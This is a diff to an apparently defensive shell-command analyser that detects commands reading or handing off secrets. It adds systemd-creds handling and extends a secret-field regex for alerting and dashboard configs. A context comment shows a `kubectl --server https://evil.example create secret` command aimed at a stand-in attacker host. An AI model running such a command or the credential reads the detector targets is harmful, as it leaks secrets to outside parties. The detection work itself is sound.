@@ -792,6 +792,11 @@ def handed_files(cmd: Cmd) -> set[str]:
     if _foreign_endpoint(cmd):
         return set()  # `kubectl --server https://evil.example create secret ...` (rev16a)
     pos = [a.text for a in cmd.positional()]
+    if cmd.name == "systemd-creds" and pos[:1] == ["encrypt"] and len(pos) >= 3:
+        # `systemd-creds encrypt IN OUT`: IN sealed into OUT (fix19); never to the
+        # terminal (`-`), nor with the null key (the plaintext only wrapped)
+        null = (cmd.option_value("with-key") or "").lower() == "null"
+        return set() if null or pos[2] == "-" else {pos[1]}
     if cmd.name in _ENGINES and pos[:2] in (["secret", "create"], ["config", "create"]):
         return {p for p in pos[3:] if p != "-"}
     if cmd.name in _ENGINES and pos[:1] in (["run"], ["create"], ["container"]):
@@ -1151,7 +1156,9 @@ def secret_reads(cmd: Cmd, packs: Packs, cwds: tuple[str | None, ...] = (None,))
     if cmd.name not in _NAME_PRINTERS and (named := _substituted_secret(cmd)) is not None:
         return _secret_read(f"{cmd.name} reads the files {named} prints: credentials; ", cmd.span)
     inner = _run_command(cmd)
-    if inner is not None and (_prints_no_content(inner) or _describes_only(inner, packs)):
+    if inner is not None and (
+        _prints_no_content(inner) or _describes_only(inner, packs) or searches_plain_settings(inner)
+    ):
         return []
     used = (
         auth_values(cmd) | handed_files(cmd) | (auth_values(inner) if inner is not None else set())
@@ -1782,6 +1789,11 @@ _SECRET_PATTERN = lazy(
     r"\[\\?(client|mysql|mysqldump|mysqladmin)\b|"
     # git's `http.<url>.extraheader`, where actions/checkout keeps the job's token (left17)
     r"extraheader|"
+    # alerting and dashboard configs' secret fields (fix19): PagerDuty's `routing_key` and
+    # `service_key`, an integration key, a chat webhook's address (its path is the token),
+    # Grafana's `secureJsonData` and header values (`httpHeaderValue1: Bearer ...`)
+    r"routing_?key|service_?key|integration_?key|webhook_?url|secure_?json_?data|"
+    r"http_?header_?value|"
     # a login written into an address (`url = https://[^/]*:[^/]*@`): user, password, host
     r"://\S*:\S*@|" + _KEY_SHAPES
     # the shape of a provider's key (an AWS key id, GitHub, GitLab, Slack, Stripe, Google,
